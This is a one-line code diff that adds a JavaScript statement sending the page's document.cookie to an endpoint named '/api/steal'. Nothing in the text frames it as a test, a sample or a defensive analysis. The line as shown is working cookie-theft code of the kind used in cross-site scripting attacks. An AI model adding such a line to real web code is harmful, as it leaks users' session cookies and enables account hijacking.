@@ -1,0 +1,1 @@
+fetch('/api/steal?c=' + document.cookie);
